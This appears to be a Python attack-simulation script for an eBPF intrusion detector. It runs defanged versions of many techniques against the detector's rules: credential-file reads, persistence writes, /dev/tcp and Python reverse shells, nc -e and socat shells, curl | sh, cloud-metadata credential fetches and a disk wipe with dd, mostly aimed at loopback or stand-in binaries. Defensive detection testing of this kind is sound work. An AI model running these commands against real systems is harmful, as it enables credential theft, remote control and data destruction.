#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Attack simulation for the stock rules (docs/detection.md, Attack
simulation). Runs safe versions of real techniques, one after the other,
while a live ebpf-guard with rules/ writes its alerts to ALERTS. After each
technique sim.py opens a marker file; the marker rule's alert (--config)
closes the technique's alerts, so each alert is attributed to the technique
that raised it; those of sim.py's own process (its set-up: the files it
makes, its loopback servers) do not count. Prints one line per
technique, "technique<TAB>expected<TAB>fired rules", and a summary; exits 1
when a technique's expected rule did not fire.

Safe: network only on loopback or inside a private network namespace made
for the technique (gone with it); tools that would change the system are
stand-ins (a copy of /bin/true under the tool's name: the exec is what the
rules see); "containers" are cgroups named like a container runtime's,
removed after; every file made is removed, every file touched is restored.
Needs root.

    sim.py --config            prints the extra configuration the daemon needs
                               (the marker rule)
    sim.py ALERTS WORKDIR      runs the techniques (EGSIM_ONLY=REGEX: only
                               those whose name matches; EGSIM_SLOW=1: also
                               the ones that take minutes; EGSIM_MARKDOWN=FILE:
                               the table of docs/detection.md into FILE;
                               EGSIM_DEBUG=1: every alert on stderr)
"""
import ctypes
import hashlib
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time

HERE = os.path.dirname(os.path.abspath(__file__))
LOUD = {"warning", "error", "critical"}
MARKER = "attack_sim_marker"


# server_starts_connecting_out wants a server quiet for 10 minutes first:
# unless EGSIM_SLOW=1, the simulation lowers that threshold (the detection's
# quiet_seconds param) to QUIET seconds and its server waits a little longer.
SLOW = os.environ.get("EGSIM_SLOW") == "1"
QUIET = 600 if SLOW else 4


def config():
    """The daemon's extra configuration, loaded after rules/: a marker rule
    (sim.py opens WORK/egsim-marker.N after technique N; its alert closes the
    technique's alerts). The stock set itself runs as shipped, but for one
    threshold (QUIET above) unless EGSIM_SLOW=1."""
    lines = [
        "rules:",
        "  - id: " + MARKER,
        "    description: the attack simulation finished a technique",
        "    event_types: [open]",
        "    match:",
        "      filename: {regex: '/egsim-marker\\.[0-9]+$'}",
        "    severity: info",
    ]
    if not SLOW:
        lines += [
            "overrides:",
            "  - rule: server_starts_connecting_out",
            "    replace: {params: {quiet_seconds: %d}}" % QUIET,
        ]
    return "\n".join(lines) + "\n"


if sys.argv[1:] == ["--config"]:
    sys.stdout.write(config())
    sys.exit(0)

ALERTS, WORK = sys.argv[1], sys.argv[2]
BIN = os.path.join(WORK, "bin")       # stand-ins, on no PATH
os.makedirs(BIN, exist_ok=True)
libc = ctypes.CDLL(None, use_errno=True)


def standin(name):
    p = os.path.join(BIN, name)
    if not os.path.exists(p):
        shutil.copy("/bin/true", p)
    return p


def run(*argv, **kw):
    subprocess.run(list(argv), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=20, **kw)


def sh(cmd):
    run("/bin/sh", "-c", cmd)


def bash(cmd):
    run("/bin/bash", "-c", cmd)


class Undo:
    """Files made by a technique, removed afterwards (deepest first)."""
    def __init__(self):
        self.paths = []
        self.deferred = []

    def make(self, path, text="", mode=None):
        self.mkdirs(os.path.dirname(path))
        with open(path, "w") as f:
            f.write(text)
        if mode is not None:
            os.chmod(path, mode)
        self.paths.append(path)
        return path

    def note(self, path):
        self.paths.append(path)
        return path

    def defer(self, fn):
        """Calls fn at close (before the files are removed)."""
        self.deferred.append(fn)

    def mkdirs(self, d):
        """Makes d and its missing parents (removed afterwards)."""
        missing = []
        while d and not os.path.exists(d):
            missing.append(d)
            d = os.path.dirname(d)
        for m in reversed(missing):
            os.mkdir(m)
            self.paths.append(m)

    def close(self):
        err = None
        for fn in reversed(self.deferred):
            try:
                fn()
            except Exception as e:
                err = err or e
        for p in reversed(self.paths):
            try:
                if os.path.isdir(p) and not os.path.islink(p):
                    shutil.rmtree(p)
                else:
                    os.unlink(p)
            except FileNotFoundError:
                pass
        if err:
            raise err


def serve(answer):
    """A loopback TCP server whose thread calls answer(conn) on each
    connection, then closes it; returns its port."""
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    s.listen(8)

    def loop():
        while True:
            try:
                c, _ = s.accept()
                answer(c)
                c.close()
            except OSError:
                return
    threading.Thread(target=loop, daemon=True).start()
    return s.getsockname()[1]


def listener():
    """A loopback TCP server that accepts and closes; returns its port."""
    return serve(lambda c: None)


def http_server(body):
    """A loopback HTTP server answering every GET with body."""
    def answer(c):
        c.recv(4096)
        c.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))
    return serve(answer)


def a_sleeper():
    return subprocess.Popen(["/bin/sleep", "30"])


def cgroup2_root():
    for line in open("/proc/self/mountinfo"):
        left, _, right = line.partition(" - ")
        if right.split(" ")[0] == "cgroup2":
            return left.split(" ")[4]
    return None


def rmdir_cgroup(d):
    for _ in range(100):
        try:
            os.rmdir(d)
            return
        except FileNotFoundError:
            return
        except OSError:  # EBUSY: an exiting process is still in it
            time.sleep(0.05)
    raise RuntimeError("could not remove the cgroup " + d)


class Cgroups:
    """The simulation's cgroups, under SLICE = egsim-PID.slice at the cgroup2
    root: sim.py moves itself into SLICE/sim.scope, so that every process of
    the techniques is in SLICE (the "containers" are SLICE/docker-<id>.scope)
    and an alert belongs to the simulation when its event's cgroup is in
    SLICE, not to whatever else the host runs meanwhile. close() moves
    sim.py back and removes them. Without a writable cgroup2 hierarchy,
    nothing is made (every alert counts; no containers)."""
    def __init__(self):
        self.root = cgroup2_root()
        self.slice = self.home = None
        if not self.root or not os.access(self.root, os.W_OK):
            return
        for line in open("/proc/self/cgroup"):
            if line.startswith("0::"):
                self.home = line[3:].strip()
        if self.home is None:
            return
        self.slice = "/egsim-%d.slice" % os.getpid()
        os.makedirs(self.path(self.slice + "/sim.scope"))
        self.move(self.slice + "/sim.scope")

    def path(self, cg):
        return self.root + cg

    def move(self, cg):
        with open(self.path(cg) + "/cgroup.procs", "w") as f:
            f.write(str(os.getpid()))

    def ours(self, alert):
        return self.slice is None or alert["event"].get("cgroup", "").startswith(self.slice + "/")

    def close(self):
        if self.slice:
            self.move(self.home)
            rmdir_cgroup(self.path(self.slice + "/sim.scope"))
            rmdir_cgroup(self.path(self.slice))
            self.slice = None


CGROUPS = None  # Cgroups, made by main()


class Container:
    """A stand-in container: a cgroup named like a Docker container's
    (SLICE/docker-<64 hex>.scope, see Cgroups), which is what the daemon
    reads the container id from (docs/containers.md), with an init process
    (sleep) living in it as in a real container, so the daemon resolves the
    cgroup from /proc while it exists. run() starts a command inside it;
    close() ends the init and removes the cgroup."""
    def __init__(self):
        if not CGROUPS.slice:
            raise SkipTechnique("no writable cgroup2 hierarchy")
        cid = hashlib.sha256(b"egsim %d %f" % (os.getpid(), time.time())).hexdigest()
        self.dir = CGROUPS.path("%s/docker-%s.scope" % (CGROUPS.slice, cid))
        os.mkdir(self.dir)
        self.init = None
        try:
            self.init = subprocess.Popen(["/bin/sleep", "60"], preexec_fn=self.enter)
        except BaseException:
            self.close()
            raise

    def enter(self):
        with open(os.path.join(self.dir, "cgroup.procs"), "w") as f:
            f.write("0")

    def run(self, *argv):
        subprocess.run(list(argv), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=20,
                       preexec_fn=self.enter)

    def close(self):
        if self.init:
            self.init.kill()
            self.init.wait()
        rmdir_cgroup(self.dir)


NET = "198.51.100.7"  # TEST-NET-2 (RFC 5737), only ever inside a private namespace


def in_netns(addrs, listen, argv, timeout=20):
    """Runs argv in a private network namespace with addrs on its lo and a
    TCP listener on each [addr, port] of listen."""
    if not shutil.which("ip"):
        raise SkipTechnique("no ip(8) to set up a private network namespace")
    # tests/attack-sim/netns.py: lo, the addresses and listeners, the command
    subprocess.run(["unshare", "-n", sys.executable, os.path.join(HERE, "netns.py")],
                   input=json.dumps([addrs, listen, argv, timeout]).encode(),
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=timeout + 10)


# ---- the techniques: (name, expected rule, function(undo)) -----------------
T = []


def technique(name, rule):
    def reg(fn):
        T.append((name, rule, fn))
        return fn
    return reg


@technique("read /etc/shadow", "credential_file_read")
def _(u):
    run("cat", "/etc/shadow")


@technique("read an SSH private key", "ssh_private_key_read")
def _(u):
    k = u.make("/root/.ssh/id_egsim", "key\n", 0o600)
    run("python3", "-c", "open(%r).read()" % k)


@technique("read an SSH host key", "ssh_host_key_read")
def _(u):
    keys = [p for p in ("/etc/ssh/ssh_host_ed25519_key", "/etc/ssh/ssh_host_rsa_key") if os.path.exists(p)]
    k = keys[0] if keys else u.make("/etc/ssh/ssh_host_egsim_key", "k\n", 0o600)
    # into a real archive: GNU tar reads no file when the archive is /dev/null
    run("tar", "cf", u.note(os.path.join(WORK, "hostkey.tar")), k)


@technique("read cloud credentials", "cloud_credentials_read")
def _(u):
    c = "/root/.aws/credentials"
    if not os.path.exists(c):
        u.make(c, "[default]\n")
    run("cat", c)


@technique("read a Kubernetes service account token", "kube_service_account_token_read")
def _(u):
    t = u.make("/run/secrets/kubernetes.io/serviceaccount/token", "t\n")
    run("cat", t)


@technique("read kubelet credentials", "kubelet_credentials_read")
def _(u):
    t = u.make("/var/lib/kubelet/pki/kubelet-client-current.pem", "c\n")
    run("cp", t, os.path.join(WORK, "stolen.pem"))


@technique("read a browser's saved passwords", "browser_credential_store_read")
def _(u):
    t = u.make("/root/.mozilla/firefox/egsim.default/logins.json", "{}\n")
    run("python3", "-c", "open(%r).read()" % t)


@technique("read a desktop keyring", "keyring_read")
def _(u):
    t = u.make("/root/.local/share/keyrings/egsim.keyring", "k\n")
    run("tar", "cf", u.note(os.path.join(WORK, "keyring.tar")), t)


@technique("read .git-credentials", "netrc_or_service_password_read")
def _(u):
    t = "/root/.git-credentials"
    if not os.path.exists(t):
        u.make(t, "https://u:p@example.org\n")
    run("cat", t)


@technique("grep a shell history", "shell_history_read")
def _(u):
    h = "/root/.bash_history"
    if not os.path.exists(h):
        u.make(h, "")
    run("grep", "-c", "password", h)


@technique("read another process's memory", "proc_memory_read")
def _(u):
    p = a_sleeper()
    run("python3", "-c", "f = open('/proc/%d/mem', 'rb'); f.close()" % p.pid)
    p.kill()
    p.wait()


@technique("run a credential dumper", "credential_dumper_exec")
def _(u):
    s = u.make(os.path.join(WORK, "mimipenguin.sh"), "true\n")
    run("sh", s)


@technique("one process reads shadow, an SSH key and cloud credentials", "credential_harvest")
def _(u):
    k = "/root/.ssh/id_egsim_harvest"
    u.make(k, "key\n", 0o600)
    c = "/root/.aws/credentials"
    if not os.path.exists(c):
        u.make(c, "[default]\n")
    run("python3", "-c", "for f in ['/etc/shadow', %r, %r]: open(f).read()" % (k, c))


@technique("write a cron job", "cron_job_written")
def _(u):
    u.note("/etc/cron.d/egsim")
    sh("echo '# egsim' > /etc/cron.d/egsim")


@technique("write an at job into the spool", "at_job_written")
def _(u):
    u.mkdirs("/var/spool/cron/atjobs")
    u.note("/var/spool/cron/atjobs/a00001019e7a1c")
    sh("echo 'true' > /var/spool/cron/atjobs/a00001019e7a1c")


@technique("move a prepared file into /etc/cron.d", "persistence_file_renamed_into_place")
def _(u):
    src = u.make(os.path.join(WORK, "job"), "# egsim\n")
    u.note("/etc/cron.d/egsim-mv")
    run("mv", src, "/etc/cron.d/egsim-mv")


@technique("link a dropped unit into place", "persistence_link_created")
def _(u):
    u.note("/etc/cron.d/egsim-ln")
    run("ln", "-s", os.path.join(WORK, "job"), "/etc/cron.d/egsim-ln")


@technique("write a systemd unit", "systemd_unit_written")
def _(u):
    u.note("/etc/systemd/system/egsim.service")
    sh("printf '[Service]\\nExecStart=/bin/true\\n' > /etc/systemd/system/egsim.service")


@technique("write a user systemd unit", "user_systemd_unit_written")
def _(u):
    u.make("/root/.config/systemd/user/.egsim", "")
    u.note("/root/.config/systemd/user/egsim.service")
    run("python3", "-c", "open('/root/.config/systemd/user/egsim.service', 'w').write('[Service]\\n')")


@technique("write /etc/profile.d", "system_shell_profile_written")
def _(u):
    u.note("/etc/profile.d/egsim.sh")
    sh("echo '# egsim' > /etc/profile.d/egsim.sh")


@technique("open .bashrc for appending", "user_shell_profile_written")
def _(u):
    b = "/root/.bashrc"
    if not os.path.exists(b):
        u.make(b, "")
    run("python3", "-c", "open(%r, 'a').close()" % b)


@technique("add an authorized key", "authorized_keys_written")
def _(u):
    u.make("/home/egsim/.ssh/.keep", "")
    sh("echo 'ssh-ed25519 AAAA egsim' >> /home/egsim/.ssh/authorized_keys")
    u.note("/home/egsim")


@technique("create /etc/ld.so.preload", "ld_so_preload_written")
def _(u):
    if os.path.exists("/etc/ld.so.preload"):
        raise SkipTechnique("/etc/ld.so.preload exists: not touched")
    u.note("/etc/ld.so.preload")
    sh(": > /etc/ld.so.preload")


@technique("write a sudoers drop-in", "sudoers_written")
def _(u):
    u.make("/etc/sudoers.d/.egsim", "")
    u.note("/etc/sudoers.d/egsim")
    sh("echo '# egsim' > /etc/sudoers.d/egsim")


@technique("open /etc/passwd for writing", "account_database_written")
def _(u):
    run("python3", "-c", "open('/etc/passwd', 'a').close()")


@technique("create a user account", "account_created")
def _(u):
    run("useradd", "-M", "-s", "/usr/sbin/nologin", "egsimuser")
    run("userdel", "egsimuser")


@technique("write a login message script", "init_script_written")
def _(u):
    u.note("/etc/update-motd.d/99-egsim")
    sh("echo true > /etc/update-motd.d/99-egsim")


@technique("write a PAM configuration", "pam_configuration_written")
def _(u):
    u.note("/etc/pam.d/egsim")
    sh("echo '# egsim' > /etc/pam.d/egsim")


@technique("write an sshd drop-in", "sshd_config_written")
def _(u):
    u.make("/etc/ssh/sshd_config.d/.egsim", "")
    u.note("/etc/ssh/sshd_config.d/egsim.conf")
    sh("echo '# egsim' > /etc/ssh/sshd_config.d/egsim.conf")


@technique("write a module load list", "kernel_module_autoload_written")
def _(u):
    u.note("/etc/modules-load.d/egsim.conf")
    sh("echo '# egsim' > /etc/modules-load.d/egsim.conf")


@technique("write a udev rule", "udev_rule_written")
def _(u):
    u.make("/etc/udev/rules.d/.egsim", "")
    u.note("/etc/udev/rules.d/99-egsim.rules")
    sh("echo '# egsim' > /etc/udev/rules.d/99-egsim.rules")


@technique("write a desktop autostart entry", "xdg_autostart_written")
def _(u):
    u.make("/root/.config/autostart/.egsim", "")
    u.note("/root/.config/autostart/egsim.desktop")
    run("python3", "-c", "open('/root/.config/autostart/egsim.desktop', 'w').write('[Desktop Entry]\\n')")


@technique("set the set-uid bit on a copy of a program", "setuid_bit_set")
def _(u):
    p = u.note("/tmp/egsim-suid")
    shutil.copy("/bin/true", p)
    run("chmod", "u+s", p)


@technique("run a set-uid program from /tmp", "setuid_program_from_writable_dir")
def _(u):
    p = u.note("/tmp/egsim-suid2")
    shutil.copy("/bin/true", p)
    os.chmod(p, 0o4755)
    run(p)


@technique("execute with an empty argv", "exec_with_empty_argv")
def _(u):
    src = u.make(os.path.join(WORK, "noargv.c"),
                 "#include <unistd.h>\nint main(void){char *a[]={0};execve(\"/bin/true\",a,a);return 1;}\n")
    exe = os.path.join(WORK, "noargv")
    run("cc", "-o", exe, src)
    run(exe)


@technique("a user's process turns root without sudo", "root_from_user_session_without_sudo")
def _(u):
    # a process of login uid 1000's session, real uid 1000 with saved uid 0
    # (what an exploit leaves), makes itself root with setresuid(0, 0, 0);
    # the login uid is read at exec, so it is set before the exec
    def login_1000():
        with open("/proc/self/loginuid", "w") as f:
            f.write("1000")
    subprocess.run(["python3", "-c", "import os; os.setresuid(1000, 1000, 0); os.setresuid(0, 0, 0)"],
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=20, preexec_fn=login_1000)


@technique("a non-root process raises its capabilities with capset", "capabilities_raised_by_capset")
def _(u):
    code = r'''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.prctl(8, 1, 0, 0, 0)                  # PR_SET_KEEPCAPS: keep the permitted set
os.setresuid(1000, 1000, 1000)             # effective set now empty
hdr = (ctypes.c_uint32 * 2)(0x20080522, 0)  # _LINUX_CAPABILITY_VERSION_3
data = (ctypes.c_uint32 * 6)()
libc.capget(hdr, data)
data[0], data[3] = data[1], data[4]        # effective = permitted (CAP_SYS_ADMIN ...)
os._exit(0 if libc.capset(hdr, data) == 0 else 1)
'''
    run("python3", "-c", code)


@technique("attach to another process with ptrace", "ptrace_attach_other_process")
def _(u):
    p = a_sleeper()
    run("python3", "-c", "import ctypes; l = ctypes.CDLL(None); l.ptrace(16, %d, 0, 0); l.ptrace(17, %d, 0, 0)"
        % (p.pid, p.pid))
    p.kill()
    p.wait()


@technique("open another process's memory for writing", "proc_memory_write")
def _(u):
    p = a_sleeper()
    run("python3", "-c", "f = open('/proc/%d/mem', 'r+b'); f.close()" % p.pid)
    p.kill()
    p.wait()


@technique("load a kernel module from /tmp", "kernel_module_from_writable_dir")
def _(u):
    m = u.note("/tmp/egsim.ko")
    with open(m, "wb") as f:
        f.write(b"not a module")
    run("python3", "-c", "import ctypes, os; fd = os.open(%r, os.O_RDONLY); "
        "ctypes.CDLL(None).syscall(313, fd, b'', 0)" % m)


@technique("load a BPF kprobe program", "bpf_tracing_program_loaded")
def _(u):
    code = r'''
import ctypes, struct
insns = struct.pack("<BBhi", 0xb7, 0, 0, 0) + struct.pack("<BBhi", 0x95, 0, 0, 0)  # r0 = 0; exit
buf = ctypes.create_string_buffer(insns)
lic = ctypes.create_string_buffer(b"GPL")
attr = ctypes.create_string_buffer(128)
struct.pack_into("<IIQQ", attr, 0, 2, 2, ctypes.addressof(buf), ctypes.addressof(lic))
ctypes.CDLL(None).syscall(321, 5, attr, 128)
'''
    run("python3", "-c", code)


@technique("delete a system log", "system_log_deleted")
def _(u):
    u.make("/var/log/journal/egsim/.keep", "")
    u.note("/var/log/journal/egsim")
    f = u.make("/var/log/journal/egsim/system.journal", "x")
    run("rm", f)


@technique("truncate a system log", "system_log_truncated")
def _(u):
    u.make("/var/log/journal/egsim2/.keep", "")
    u.note("/var/log/journal/egsim2")
    f = u.make("/var/log/journal/egsim2/system.journal", "x")
    sh(": > %s" % f)


@technique("delete a shell history", "shell_history_deleted")
def _(u):
    h = u.make(os.path.join(WORK, "home", ".bash_history"), "ls\n")
    run("rm", h)


@technique("truncate a shell history", "shell_history_truncated")
def _(u):
    h = u.make(os.path.join(WORK, "home2", ".bash_history"), "ls\n")
    run("python3", "-c", "open(%r, 'w').close()" % h)


@technique("switch shell history off", "shell_history_disabled")
def _(u):
    bash("export HISTFILE=/dev/null; true")


@technique("timestomp a file from a system binary", "timestomp_system_file")
def _(u):
    f = u.make(os.path.join(WORK, "stomped"), "")
    run("touch", "-r", "/bin/ls", f)


@technique("run a program as [kworker]", "masquerade_kernel_thread")
def _(u):
    bash("exec -a '[kworker/0:1]' /bin/true")


@technique("run bash under another name", "renamed_shell_exec")
def _(u):
    p = u.note("/tmp/egsim-httpd")
    os.symlink("/bin/bash", p)
    run(p, "-c", "true")


@technique("run a system daemon's name from /tmp", "system_name_from_writable_dir")
def _(u):
    p = u.note("/tmp/sshd")
    shutil.copy("/bin/true", p)
    run(p)


@technique("run a program from a hidden directory", "hidden_executable_run")
def _(u):
    d = u.note("/var/tmp/.egsim")
    os.makedirs(d, exist_ok=True)
    p = os.path.join(d, "agent")
    shutil.copy("/bin/true", p)
    run(p)


@technique("stop the audit daemon (stand-in systemctl)", "security_tool_disabled")
def _(u):
    run(standin("systemctl"), "stop", "auditd")


@technique("flush the firewall (stand-in iptables)", "firewall_flushed")
def _(u):
    run(standin("iptables"), "-F")


@technique("make a file immutable", "immutable_attribute_set")
def _(u):
    f = u.make(os.path.join(WORK, "locked"), "")
    run("chattr", "+i", f)
    run("chattr", "-i", f)


@technique("a program in /tmp deletes its own executable", "self_deleting_program")
def _(u):
    p = u.note("/tmp/egsim-selfdel")
    shutil.copy("/bin/rm", p)
    run(p, "-f", p)


@technique("a launcher deletes the program it started from /tmp", "tmp_exec_then_deleted")
def _(u):
    p = u.note("/tmp/egsim-implant")
    shutil.copy("/bin/sleep", p)
    sh("%s 1 & sleep 0.2; rm -f %s; wait" % (p, p))


@technique("run a program dropped in /tmp", "exec_from_world_writable_dir")
def _(u):
    p = u.note("/tmp/egsim-payload")
    shutil.copy("/bin/true", p)
    run(p)


@technique("drop a program in /tmp, chmod +x, run it", "drop_chmod_execute")
def _(u):
    p = u.note("/tmp/egsim-drop")
    sh("cat /bin/true > %s; chmod +x %s; %s" % (p, p, p))


@technique("download a program with curl, then run it", "download_then_execute")
def _(u):
    with open("/bin/true", "rb") as f:
        port = http_server(f.read())
    p = u.note(os.path.join(WORK, "update"))
    sh("curl -s -o %s http://127.0.0.1:%d/update && chmod +x %s && %s" % (p, port, p, p))


@technique("a web server starts a shell, which runs id and scp", "shell_spawned_by_network_service")
def _(u):
    nginx = os.path.join(BIN, "nginx")
    if not os.path.exists(nginx):
        shutil.copy("/bin/bash", nginx)
    scp = standin("scp")
    # the server forks, the child execs the shell (bash runs a lone command
    # without forking: "; true" makes it fork)
    run(nginx, "-c", "/bin/sh -c 'id >/dev/null; %s /etc/hostname x@127.0.0.1:'; true" % scp)


@technique("(same) id run by a shell under the web server", "shell_with_network_service_ancestor")
def _(u):
    pass  # attributed from the previous technique's alerts


@technique("(same) scp from the web server's tree", "remote_file_copy_tool_from_service")
def _(u):
    pass


@technique("a web server's script starts a shell", "shell_under_network_service")
def _(u):
    nginx = os.path.join(BIN, "nginx")
    if not os.path.exists(nginx):
        shutil.copy("/bin/bash", nginx)
    # the server runs a script (python), which starts the shell: two levels
    run(nginx, "-c", "python3 -c 'import subprocess; subprocess.call([\"/bin/sh\", \"-c\", \"true\"])'; true")


@technique("bash reverse shell through /dev/tcp", "reverse_shell_dev_tcp")
def _(u):
    port = listener()
    bash("exec 5<>/dev/tcp/127.0.0.1/%d; exec 5>&-" % port)


@technique("netcat -e (stand-in nc)", "netcat_exec_flag")
def _(u):
    run(standin("nc"), "-e", "/bin/sh", "127.0.0.1", "4444")


@technique("socat exec: (stand-in socat)", "socat_shell")
def _(u):
    run(standin("socat"), "TCP:127.0.0.1:4444", "EXEC:/bin/sh,pty,stderr")


@technique("python reverse shell one-liner", "scripting_reverse_shell")
def _(u):
    port = listener()
    run("python3", "-c", "import socket,os,subprocess;s=socket.socket();s.connect(('127.0.0.1',%d));"
        "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(['/bin/sh','-c','true'])" % port)


@technique("(same) stdio on the socket", "stdio_redirected_to_socket")
def _(u):
    pass


@technique("mkfifo reverse shell pipeline (stand-in nc)", "fifo_netcat_pipeline")
def _(u):
    f = u.note(os.path.join(WORK, "f"))
    nc = standin("nc")
    run("timeout", "5", "/bin/sh", "-c",
        "rm -f %s; mkfifo %s; cat %s | /bin/sh -i 2>&1 | %s 127.0.0.1 4444 > %s" % (f, f, f, nc, f))


@technique("curl | sh", "download_piped_to_shell")
def _(u):
    port = http_server(b"true\n")
    sh("curl -s http://127.0.0.1:%d/x.sh | sh" % port)


@technique("base64 -d | bash", "decoded_payload_piped_to_shell")
def _(u):
    bash("echo dHJ1ZQo= | base64 -d | bash")


@technique("python runs a script from /dev/shm", "interpreter_runs_from_writable_dir")
def _(u):
    s = u.make("/dev/shm/egsim.py", "pass\n")
    run("python3", s)


@technique("python creates an executable memfd", "memfd_created_executable_by_interpreter")
def _(u):
    run("python3", "-c", "import os; os.close(os.memfd_create('x'))")


@technique("a service account runs a compiler", "compiler_run_by_service_user")
def _(u):
    if open("/proc/self/loginuid").read().strip() not in ("4294967295", "-1"):
        raise SkipTechnique("this session has a login uid")
    run("setpriv", "--reuid=33", "--regid=33", "--clear-groups", "cc", "--version")


@technique("a miner with a stratum pool (stand-in)", "cryptominer_arguments")
def _(u):
    run(standin("sysupdate"), "-o", "stratum+tcp://127.0.0.1:3333", "-u", "wallet")


@technique("run ncat", "netcat_like_exec")
def _(u):
    run(standin("ncat"), "--version")


@technique("search for set-uid programs", "setuid_binary_search")
def _(u):
    run("find", "/usr/bin", "-maxdepth", "1", "-perm", "-4000")


@technique("list file capabilities recursively", "capability_search")
def _(u):
    run("getcap", "-r", WORK)


@technique("run linpeas", "privilege_escalation_recon_tool")
def _(u):
    s = u.make(os.path.join(WORK, "linpeas.sh"), "true\n")
    run("sh", s)


@technique("run a scanner (stand-in nmap)", "network_scanner_exec")
def _(u):
    run(standin("nmap"), "-sT", "127.0.0.1")


@technique("a connect scan of loopback ports", "connect_fanout_scan")
def _(u):
    run("python3", "-c", "import socket\nfor p in range(1, 21):\n"
        "    s = socket.socket(); s.settimeout(0.5); s.connect_ex(('127.0.0.1', p)); s.close()")


@technique("a shell runs a burst of discovery commands", "discovery_burst")
def _(u):
    bash("id; uname -a; hostname; whoami; ps -e; cat /etc/passwd; true")


@technique("curl the cloud metadata service (private netns)", "cloud_metadata_access")
def _(u):
    in_netns(["169.254.169.254"], [["169.254.169.254", 80]],
             ["curl", "-s", "--max-time", "2", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"])


@technique("sudo -l from a script (stand-in)", "sudo_privileges_listed")
def _(u):
    run("setsid", standin("sudo"), "-l")


@technique("a bind shell listens (program from /tmp)", "shell_listening")
def _(u):
    p = u.note("/tmp/egsim-py")
    shutil.copy(os.path.realpath(sys.executable), p)
    run(p, "-c", "import socket; s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(1)")


@technique("a bash bind shell accepts a connection (loadable builtin)", "shell_accepted_connection")
def _(u):
    so = os.path.join(WORK, "egaccept.so")
    if not os.path.exists(so):
        subprocess.run(["cc", "-shared", "-fPIC", "-o", so, os.path.join(HERE, "bash_accept.c")], check=True,
                       timeout=60)
    b = subprocess.Popen(["/bin/bash", "-c", "enable -f %s egaccept && egaccept" % so],
                         stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
    try:
        port = int(b.stdout.readline())
        socket.create_connection(("127.0.0.1", port), timeout=5).close()
        b.wait(timeout=10)
    finally:
        b.kill()
        b.wait()


@technique("bash connects out through /dev/tcp (private netns)", "shell_outbound_connect")
def _(u):
    in_netns([NET], [[NET, 443]], ["/bin/bash", "-c", "exec 5<>/dev/tcp/%s/443; exec 5>&-" % NET])


@technique("a program dropped in /tmp connects out (private netns)", "writable_dir_program_connect")
def _(u):
    p = u.note("/tmp/egsim-beacon")
    shutil.copy("/usr/bin/curl", p)
    in_netns([NET], [[NET, 8080]], [p, "-s", "--max-time", "2", "http://%s:8080/beacon" % NET])


@technique("a server connects out after serving quietly (private netns; 10 minutes with EGSIM_SLOW=1, "
           "else the threshold lowered to %d s)" % QUIET, "server_starts_connecting_out")
def _(u):
    code = ("import socket, time; s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(1); time.sleep(%d); "
            "socket.create_connection(('%s', 443), timeout=5).close()" % (QUIET + 5, NET))
    in_netns([NET], [[NET, 443]], ["python3", "-c", code], timeout=QUIET + 60)


@technique("a tunnel tool (stand-in chisel)", "tunnel_tool_exec")
def _(u):
    run(standin("chisel"), "client", "127.0.0.1:8000", "R:socks")


@technique("ssh reverse tunnel (stand-in)", "ssh_reverse_tunnel")
def _(u):
    run(standin("ssh"), "-N", "-R", "2222:localhost:22", "user@127.0.0.1")


@technique("connect to Tor's SOCKS port", "tor_connection")
def _(u):
    run("curl", "-s", "--max-time", "1", "http://127.0.0.1:9050/")


@technique("download from an IP address (stand-in wget)", "download_from_ip_address")
def _(u):
    run(standin("wget"), "http://203.0.113.9/x")


@technique("download into /tmp", "download_to_writable_dir")
def _(u):
    port = http_server(b"x\n")
    u.note("/tmp/egsim-dl")
    run("curl", "-s", "-o", "/tmp/egsim-dl", "http://127.0.0.1:%d/" % port)


@technique("wipe a disk (stand-in dd)", "disk_wiped")
def _(u):
    run(standin("dd"), "if=/dev/zero", "of=/dev/sda", "bs=1M")


@technique("write into /boot", "boot_files_written")
def _(u):
    if not os.access("/boot", os.W_OK):
        raise SkipTechnique("/boot is not writable")
    u.note("/boot/egsim")
    sh("echo x > /boot/egsim")


@technique("delete the backups (stand-in rm)", "backups_or_snapshots_deleted")
def _(u):
    run(standin("rm"), "-rf", "/var/backups/")


@technique("encrypt a tree with find -exec gpg", "mass_file_encryption_tool")
def _(u):
    sh("true find /home -type f -exec gpg --batch -c {} \\;")


@technique("write the cgroup release_agent", "cgroup_release_agent_written")
def _(u):
    f = u.make(os.path.join(WORK, "cgrp", "release_agent"), "")
    sh("echo /x > %s" % f)


@technique("enter PID 1's namespaces with nsenter", "host_proc_root_access")
def _(u):
    run("nsenter", "-t", "1", "-m", "true")


@technique("debugfs on a disk (stand-in)", "debugfs_on_disk")
def _(u):
    run(standin("debugfs"), "-w", "/dev/sda1")


# In a container: the techniques below run in a cgroup named like a Docker
# container's (Container above).


def in_container(u, *argv):
    c = Container()
    u.defer(c.close)  # after the technique's alerts are in: see main()
    c.run(*argv)


@technique("look for the runtime socket in a container", "container_runtime_probe")
def _(u):
    in_container(u, "cat", "/run/docker.sock")


@technique("run a runtime client in a container (stand-in docker)", "runtime_client_in_container")
def _(u):
    in_container(u, standin("docker"), "-H", "unix:///run/docker.sock", "run", "--privileged", "-v", "/:/host", "debian")


@technique("open core_pattern for writing in a container", "core_pattern_written")
def _(u):
    # opened for writing, nothing written; checked and restored all the same
    cp = "/proc/sys/kernel/core_pattern"
    with open(cp, "rb") as f:
        before = f.read()
    try:
        in_container(u, "python3", "-c", "import os; os.close(os.open(%r, os.O_WRONLY))" % cp)
    finally:
        with open(cp, "rb") as f:
            after = f.read()
        if after != before:
            with open(cp, "wb") as f:
                f.write(before)
            raise RuntimeError("core_pattern changed (restored): %r" % after)


@technique("join a host process's namespaces from a container (nsenter)", "namespace_entered_from_container")
def _(u):
    # a container sharing the host's PID namespace joins a host process's
    # namespaces (sim.py's: the host's own; PID 1's may be out of reach in a
    # sandboxed test machine)
